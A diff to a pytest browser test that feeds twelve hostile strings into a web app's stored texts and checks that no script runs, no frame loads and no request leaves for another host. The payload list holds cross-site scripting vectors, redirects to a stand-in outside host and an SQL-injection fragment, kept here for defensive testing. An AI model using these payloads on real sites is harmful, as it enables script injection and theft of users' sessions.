@@ -1,8 +1,6 @@
 """Twelve hostile payloads in every text that is kept, on every page that shows them: no dialog, no request to another
 host, no script that ran, nothing in the console, no page pushed wider than its window."""
 
-from collections.abc import Iterator
-
 import pytest
 
 from colophon.domain.account import Grant, Role
@@ -24,7 +22,7 @@ PAYLOADS = (
     f"</title></textarea><style>@import '{_OUT}';body{{width:9999px}}</style>",
     "\" autofocus onfocus=window.__hit=7 x=\"' onmouseover='window.__hit=7",
     f"<iframe src={_OUT} srcdoc='<script>parent.__hit=8</script>'></iframe>",
-    "<a href=data:text/html,<script>opener.__hit=9</script> hx-get=//elsewhere.example hx-trigger=load data-live=/x>go</a>",
+    "<a href=data:text/html,<script>opener.__hit=9</script> hx-get=//elsewhere.example hx-trigger=load>go</a>",
     "W" * 180,
     "null undefined NaN -1e999 ../../etc 'OR 1=1;--",
     "--></script><base href=//elsewhere.example><meta http-equiv=refresh content=0;url=//elsewhere.example>",
@@ -41,7 +39,7 @@ WIDE = (390, 1440)
 
 
 @pytest.fixture(scope="module")
-def hostile(site: Site) -> Iterator[list[Asset]]:
+def hostile(site: Site) -> list[Asset]:
     """A campaign for each payload, all of its texts made of it; two of them with pictures that everybody spoke of."""
     world, desk = site.world, site.world.rt.desk
     told = {"halts": world.rt.catalog.halts, "orders": world.rt.catalog.orders, "clock": world.clock}
@@ -74,7 +72,7 @@ def hostile(site: Site) -> Iterator[list[Asset]]:
             if text != owner:  # who ordered a picture does not approve it
                 decide_asset(asset.id, "approve", by=text, reason=text, desk=desk)
     decide_asset(assets[0].id, "reject", by=PAYLOADS[2], reason=PAYLOADS[5], desk=desk)
-    yield assets
+    return assets
 
 
 def harmless(visit: Visit, path: str) -> list[str]:
@@ -90,7 +88,10 @@ def harmless(visit: Visit, path: str) -> list[str]:
     for number, frame in enumerate(page.frames):
         if number or frame.evaluate("window.__hit !== undefined"):
             faults.append(f"{path}: something ran or was framed")
-    foreign = "main :is(iframe, base, animate, meta, style, [onerror], [onload], [onfocus], [onmouseover], [href^='javascript:'])"
+    foreign = (
+        "main :is(iframe, base, animate, meta, style, [onerror], [onload], [onfocus], [onmouseover],"
+        " [href^='javascript:'], [href^='data:'])"
+    )
     faults += [f"{path}: {each}" for each in page.eval_on_selector_all(foreign, "all => all.map(e => e.outerHTML)")]
     return faults
 
